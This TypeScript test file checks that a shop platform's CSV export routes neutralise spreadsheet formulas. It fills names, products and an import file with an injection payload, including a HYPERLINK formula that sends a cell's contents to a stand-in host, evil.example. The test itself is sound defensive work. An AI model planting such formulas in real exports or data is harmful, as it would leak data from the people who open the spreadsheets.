import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { beforeAll, describe, expect, test } from 'vitest';
import type { AnyCall } from '#platform/call.ts';
import { allRoutes } from '#server/routes.ts';
import { testShop } from '../../support/shop.ts';
import { EXPECTED, type Scene } from '../matrix/expected.ts';
import { type Cast, setScene, tokenOf } from '../matrix/scene.ts';
import { GROUPS, type Who } from '../matrix/who.ts';

const shop = await testShop();
let cast: Cast;
let scene: Scene;

const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"هنا");=1+1|@SUM(A1); "=2+2`;
/** A file of a merchant in which every cell is one. */
const FILE = Buffer.from(`title\n${`"${FORMULA.replaceAll('"', '""')}"\n`.repeat(3)}`);

/** What people, shops, goods and sections are called is a formula. */
beforeAll(async () => {
  ({ cast, scene } = await setScene(shop));
  await shop.rows(sql`
    with people as (update users set name = ${FORMULA}),
         merchants as (update merchants set name_ar = ${FORMULA}, legal_name = ${FORMULA}, activity = ${FORMULA}),
         shelf as (update categories set name_ar = ${FORMULA}),
         file as (insert into import_files (import_id, bytes) values (${scene.importId}, ${FILE})),
         problems as (insert into import_problems (import_id, row_number, column_key, value, reason) values (${scene.importId}, 2, 'title', ${FORMULA}, 'title_missing'))
    update products set title = ${FORMULA}, description = ${FORMULA}`);
});

/** Calls that reply with a table: those whose input has a format. */
const tables = allRoutes
  .map(({ call }) => call)
  .filter(
    call => call.replies === 'file' && 'format' in ((call.input.def as { shape?: object }).shape ?? {}),
  );

const whoFor = ({ method, path }: AnyCall) => {
  const allowed: readonly Who[] = GROUPS[EXPECTED[`${method} ${path}`]?.who ?? 'anyone'];
  return (['super_admin', 'merchant'] as const).filter(who => allowed.includes(who));
};

const input = ({ path }: AnyCall) => ({
  importId: scene.importId,
  statementId: scene.statementId,
  format: 'csv',
  ...(/\/report(\/tax)?\/export$/.test(path) && { from: '2020-01-01', to: '2020-03-31', by: 'category' }),
  ...(path.endsWith('/merchant/export') && { tab: 'active' }),
});

describe('no text runs as a formula in the spreadsheet of the person who opens it', () => {
  const exports = tables.flatMap(call => whoFor(call).map(who => [call.path, who, call] as const));
  test.each(exports)('%s, by a %s', async (_, who, call) => {
    const token = (await tokenOf(shop, cast, who)) ?? '';
    const { status, bytes, text } = await shop.call(call, input(call) as never, { token });
    expect([status, status === 200 ? '' : text]).toEqual([200, '']);
    // Excel ends a cell by the list separator of its Windows: a semicolon in Egypt.
    for (const delimiter of [',', ';', '|', '\t']) {
      const rules = { bom: true, relax_column_count: true, relax_quotes: true, delimiter };
      const cells = (parse(bytes, rules) as string[][]).flat();
      const running = cells.filter(cell => /^[\s\uFEFF"]*[=+@-]/.test(cell) && Number.isNaN(Number(cell)));
      expect([delimiter, running]).toEqual([delimiter, []]);
    }
  });

  test('those that hold texts were tried with formulas in them', async () => {
    const token = (await tokenOf(shop, cast, 'super_admin')) ?? '';
    const held: string[] = [];
    for (const call of tables) {
      const { text } = await shop.call(call, input(call) as never, { token });
      if (text.includes('HYPERLINK')) held.push(call.path);
    }
    // An order keeps the names of its day: orders/back-office.test.ts.
    expect(held).toEqual([
      '/api/web/merchant/export',
      '/api/web/back-office/product-imports/:importId/problems-file',
      '/api/web/back-office/products-export',
      '/api/web/back-office/product-import-template',
      '/api/web/ledger/transactions/export',
    ]);
  });
});
